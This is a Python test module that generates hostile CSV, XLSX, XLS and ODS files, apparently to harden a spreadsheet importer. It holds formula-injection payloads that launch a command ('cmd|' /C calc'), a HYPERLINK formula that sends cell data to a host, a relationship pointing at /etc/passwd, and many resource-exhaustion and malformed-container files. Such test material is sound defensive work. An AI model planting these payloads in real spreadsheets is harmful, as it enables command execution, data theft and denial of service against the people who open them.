"""Workbooks and lists that claim, repeat or run what they should not."""

from tests.hostile import good
from tests.hostile.cfb import compound, record, stream
from tests.hostile.kept import hostile, keep
from tests.hostile.zips import zipped

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"Open")',
    "=IMPORTXML(1,2)",
    "%0A=1+1",
)
_HEADS = good.inline_row(good.HEADS)


@hostile("formulas.csv")
def formulas() -> bytes:
    """Cells that a spreadsheet program would run."""
    rows = [f'"{one.replace(chr(34), chr(34) * 2)}",Ann,S{at},a{at}@school.example' for at, one in enumerate(FORMULAS)]
    return "\r\n".join([",".join(good.HEADS), *rows]).encode()


@hostile("formulas.xlsx")
def formulas_in_workbook() -> bytes:
    """Formulas without a value, with an error, and with one that refers to another file."""
    cell = '<row><c t="{}"><f>[1]Sheet1!A1+cmd|" /C calc"!A0</f>{}</c></row>'
    rows = cell.format("str", "") + cell.format("e", "<v>#REF!</v>") + cell.format("str", "<v>=1+1</v>")
    return zipped(good.xlsx_parts(_HEADS + rows))


@hostile("dimension.xlsx")
def dimension() -> bytes:
    """Says it has 1,048,576 rows and 16,384 columns, and has twenty and four."""
    return zipped(good.xlsx_parts(before='<dimension ref="A1:XFD1048576"/>'))


@hostile("far-corner.xlsx", heavy=True)
def far_corner() -> bytes:
    """One cell at the very corner of the sheet: between it and the list lie 17 billion."""
    corner = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return zipped(good.xlsx_parts(_HEADS + corner))


@hostile("beyond-the-corner.xlsx", heavy=True)
def beyond_the_corner() -> bytes:
    """A cell in row 4 billion and in a column of 200 letters."""
    rows = f'<row r="4294967295"><c r="A4294967295"><v>1</v></c><c r="{"Z" * 200}9"><v>1</v></c></row>'
    return zipped(good.xlsx_parts(_HEADS + rows))


@hostile("shared-strings.xlsx", heavy=True)
def shared_strings() -> bytes:
    """One text of 5 MB, which 100,000 cells refer to."""
    rows = '<row><c t="s"><v>0</v></c></row>' * 100_000
    return zipped(good.xlsx_parts(rows, f"<si><t>{'x' * 5_000_000}</t></si>"))


@hostile("shared-strings-far.xlsx")
def shared_strings_far() -> bytes:
    """Cells that refer to texts that are not there."""
    rows = '<row><c t="s"><v>4294967295</v></c><c t="s"><v>-1</v></c><c t="s"><v>x</v></c></row>'
    return zipped(good.xlsx_parts(rows))


@hostile("many-shared-strings.xlsx", heavy=True)
def many_shared_strings() -> bytes:
    """Says that it has 4 billion shared texts."""
    parts = good.xlsx_parts()
    parts["xl/sharedStrings.xml"] = parts["xl/sharedStrings.xml"].replace(
        "<sst ", '<sst count="4294967295" uniqueCount="4294967295" '
    )
    return zipped(parts)


@hostile("million-rows.xlsx", heavy=True)
def million_rows() -> bytes:
    """1,000,000 rows of one cell."""
    return zipped(good.xlsx_parts(_HEADS + "<row><c><v>1</v></c></row>" * 1_000_000))


@hostile("wide.xlsx")
def wide() -> bytes:
    """16,384 columns, each with a name."""
    return zipped(good.xlsx_parts(good.inline_row([f"Surname {at}" for at in range(16_384)]) * 3))


@hostile("sheets.xlsx")
def many_sheets() -> bytes:
    """1,900 sheets, all of them the same part."""
    parts = good.xlsx_parts()
    sheets = "".join(f'<sheet name="S{at}" sheetId="{at + 1}" r:id="rId1"/>' for at in range(1_900))
    parts["xl/workbook.xml"] = good.WORKBOOK.replace('<sheet name="Staff" sheetId="1" r:id="rId1"/>', sheets)
    return zipped(parts)


@hostile("no-sheet.xlsx")
def no_sheet() -> bytes:
    """A workbook that names a sheet which is not there."""
    parts = good.xlsx_parts()
    del parts["xl/worksheets/sheet1.xml"]
    return zipped(parts)


@hostile("leads-out.xlsx")
def leads_out() -> bytes:
    """A workbook whose sheet is said to be a file of this computer."""
    parts = good.xlsx_parts()
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        "worksheets/sheet1.xml", "file:///etc/passwd"
    )
    return zipped(parts)


@hostile("numbers.xlsx")
def numbers() -> bytes:
    """Numbers that are none: NaN, 1e999, dates in the year one million, a date in nought."""
    values = ("NaN", "1e999", "-1e999", "1e308", "99999999999", "-1", "1e-320", "", "0x10", "١٢٣")
    cells = "".join(f'<c s="1"><v>{value}</v></c>' for value in values)
    parts = good.xlsx_parts(_HEADS + f"<row>{cells}</row>" * 3)
    parts["xl/styles.xml"] = (
        '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>'
    )
    return zipped(parts)


@hostile("merged.xlsx")
def merged() -> bytes:
    """A merged cell over the whole sheet."""
    parts = good.xlsx_parts()
    sheet = parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(
        "</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    )
    return zipped(parts)


@hostile("repeated.ods", heavy=True)
def repeated() -> bytes:
    """A row that says it is repeated two billion times, of a cell that is repeated as often."""
    return _repeated(2_000_000_000, 2_000_000_000)


@hostile("repeated-some.ods", heavy=True)
def repeated_some() -> bytes:
    """The same, a million rows of a thousand cells: within what a sheet may have."""
    return _repeated(1_000_000, 1_000)


def _repeated(rows: int, columns: int) -> bytes:
    cell = good.ods_cell("a", f'table:number-columns-repeated="{columns}"')
    return zipped(good.ods_parts(f'<table:table-row table:number-rows-repeated="{rows}">{cell}</table:table-row>'))


@hostile("locked.xls")
def locked() -> bytes:
    """A workbook of before 2007 that asks for a password."""
    data = stream(good.ROWS)
    return compound("Workbook", data[:20] + record(0x2F, bytes([1, 0, 1, 0]) + bytes(48)) + data[20:])


@hostile("locked-container.xlsx", "locked-container.docx")
def locked_container() -> bytes:
    """A workbook that Excel locked: it lies encrypted in the older container."""
    return compound("EncryptedPackage", b"\x11" * 6_000)


@hostile("xls-records-lie.xls", heavy=True)
def records_lie() -> bytes:
    """Records that say they are longer than the file, and a sheet that begins beyond it."""
    data = bytearray(stream(good.ROWS))
    data[-2:] = b"\xff\xff"
    at = data.index(b"\x85\x00")
    data[at + 4 : at + 8] = b"\xf0\xff\xff\x7f"
    return compound("Workbook", bytes(data))


@hostile("xls-far-row.xls", heavy=True)
def far_row() -> bytes:
    """A cell in the last row and the last column that two bytes can name."""
    corner = record(0x0204, b"\xff\xff\xff\xff\x00\x00\x01\x00\x00x")
    return compound("Workbook", stream(good.ROWS).replace(record(0x0A, b""), corner + record(0x0A, b""), 2))


@hostile("xls-sectors-loop.xls", heavy=True)
def sectors_loop() -> bytes:
    """A compound file whose chain of sectors bites its own tail."""
    data = bytearray(good.xls())
    data[512 + 8 : 512 + 12] = (2).to_bytes(4, "little")
    return bytes(data)


@hostile("xls-sectors-many.xls", heavy=True)
def sectors_many() -> bytes:
    """A compound file that says it has 4 billion sectors."""
    data = bytearray(good.xls())
    data[44:48] = b"\xff\xff\xff\xff"
    data[72:76] = b"\xff\xff\xff\x7f"
    return bytes(data)


@hostile("quote-open.csv")
def quote_open() -> bytes:
    """A quotation mark that is never closed swallows the list."""
    return good.csv().replace(b"Name3", b'"Name3') + b"\r\nx,y,z,w" * 50_000


@hostile("quotes.csv")
def quotes() -> bytes:
    """Nothing but quotation marks."""
    return b"Surname,Forename\n" + b'"' * 2_000_000


@hostile("million-columns.csv", heavy=True)
def million_columns() -> bytes:
    """A million columns."""
    return b"Surname,Forename," + b"x," * 1_000_000 + b"\nSmith,Ann\n"


@hostile("million-rows.csv", heavy=True)
def million_rows_csv() -> bytes:
    """A million rows of next to nothing."""
    return b"Surname,Forename\n" + b"a,b\n" * 1_000_000


@hostile("staircase.csv", heavy=True)
def staircase() -> bytes:
    """Every row has one cell more than the row before: to even them out would take millions."""
    return b"Surname,Forename\n" + b"\n".join(b"a," * at for at in range(1, 4_000))


@hostile("wide-row-late.csv", heavy=True)
def wide_row_late() -> bytes:
    """100,000 short rows, and then one of 100,000 cells, by which all would be evened out."""
    return b"Surname,Forename\n" + b"a,b\n" * 100_000 + b"c," * 100_000


@hostile("delimiters.csv")
def delimiters() -> bytes:
    """Every delimiter there is, as often as the others."""
    return b"Surname,Forename;Staff code\tE-mail|x\n" + b"a,b;c\td|e\n" * 5_000


@hostile("sep.csv")
def sep() -> bytes:
    """Excel's line for its delimiter, with a delimiter that is none."""
    return b"sep=\x00\nSurname\x00Forename\na\x00b\n"


def _enter() -> None:
    for kind, make in (("xlsx", good.xlsx), ("xls", good.xls), ("ods", good.ods)):
        for tenth in range(1, 10):
            keep(
                f"cut-{tenth}0.{kind}",
                f"A workbook cut off after {tenth} tenths of it.",
                lambda make=make, tenth=tenth: make()[: len(make()) * tenth // 10],  # type: ignore[misc]
            )


_enter()
